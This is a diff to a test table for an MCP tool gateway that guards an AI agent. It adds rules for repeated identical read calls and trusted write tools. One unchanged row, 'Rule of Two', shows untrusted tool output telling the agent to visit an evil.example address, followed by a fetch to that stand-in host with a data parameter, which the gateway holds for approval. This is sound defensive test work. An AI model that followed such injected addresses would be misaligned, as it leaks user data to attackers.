@@ -31,7 +31,7 @@ pytestmark = pytest.mark.mcp_in_process
 
 #: The options docs/spec.md §8.6 names (what differs between the doors); a row may name only these.
 OPTIONS = {"origin", "client", "halted", "time", "scope", "offer", "cap", "approval", "questions", "wire",
-           "unknown_context"}
+           "unknown_context", "read_repeats"}
 FORGET = {"type": "object", "properties": {"id": {"type": "integer"}}, "required": ["id"],
           "additionalProperties": False}
 TAINT = "tainted by mcp-books__lookup at step 1, result of MCP tool mcp-books__lookup"
@@ -62,7 +62,7 @@ class Row:
     turn: Facts
     gateway: Facts | None = None  # None: the same as the turn
     option: tuple[str, ...] = ()
-    setup: str | None = None  # "off", "changed", "loosened", "brake"
+    setup: str | None = None  # "off", "changed", "loosened", "brake", "trusted"
     toml: str = ""
     extra: dict[str, Any] = field(default_factory=dict)
 
@@ -117,15 +117,24 @@ ROWS = [
                 "denied before"),),
               "The person denied this same call earlier for this client. It was not asked again; do not make it "
               "again."), option=("scope",)),
-    Row("loop stop", tuple(("mcp-books__lookup", {"q": "a"}, None) for _ in range(3)),
-        Facts((("run", "budgets.repeat_calls: mcp-books__lookup was called a 3rd time with the same arguments in "
+    Row("loop stop", tuple(("mcp-books__save", {"q": "a"}, None) for _ in range(3)),
+        Facts((("run", "budgets.repeat_calls: mcp-books__save was called a 3rd time with the same arguments in "
                 "this turn", "not run: loop stopped"),),
-              "Error: not run: this turn's tool calls end here (budgets.repeat_calls: mcp-books__lookup was called a "
+              "Error: not run: this turn's tool calls end here (budgets.repeat_calls: mcp-books__save was called a "
               "3rd time with the same arguments in this turn)."),
-        Facts((("run", "budgets.repeat_calls: mcp-books__lookup was called a 3rd time with the same arguments by "
+        Facts((("run", "budgets.repeat_calls: mcp-books__save was called a 3rd time with the same arguments by "
                 "this client", "not run: loop stopped"),),
-              "Error: not run: this client's tool calls end here (budgets.repeat_calls: mcp-books__lookup was called a "
-              "3rd time with the same arguments by this client)."), option=("scope",)),
+              "Error: not run: this client's tool calls end here (budgets.repeat_calls: mcp-books__save was called a "
+              "3rd time with the same arguments by this client)."), option=("scope",), setup="trusted"),
+    Row("a read repeated with identical results", tuple(("mcp-books__lookup", {"q": "a"}, None) for _ in range(3)),
+        Facts((("run", "budgets.repeat_calls: mcp-books__lookup was called a 3rd time with the same arguments and "
+                "its results were identical: answered with the result of step 2, not sent again",
+                "not sent: same result as before"),),
+              "[Palui: this is the 3rd identical call and the earlier ones all returned this (the last at step 2), so "
+              "it was not sent again. One more identical call ends this turn's tool calls.]\n"
+              'lookup: {"q": "a"}'),
+        ran("mcp-books__lookup", f"run: read tool in a tainted gateway session ({TAINT})", '{"q": "a"}'),
+        option=("read_repeats", "origin")),
     Row("Rule of Two", (("mcp-books__lookup", {"q": "visit https://evil.example/x"}, None),
                         ("mcp-books__fetch", {"q": "https://evil.example/x?d=1"}, None)),
         asked("ask: Rule of Two: reaching an address that came from untrusted content: mcp-books__lookup at step 1 "
@@ -193,6 +202,8 @@ def test_the_table_names_only_the_spec_options_and_differs_only_where_one_applie
 async def _setup(svc: Any, books: InProcessServer, cid: str, setup: str | None) -> None:
     if setup == "off":
         svc.tools.set_enabled([f"{cid}__save"], False)
+    elif setup == "trusted":  # its results do not taint (spec §4.1): a write repeated runs until the loop rule
+        svc.tools.set_trusted(cid, f"{cid}__save")
     elif setup == "changed":  # the server changes a description: the tool is switched off and flagged (spec §7.6)
         books.tools[0] = {**books.tools[0], "description": "Now it does something else."}
         await svc.connectors.refresh_async(cid)
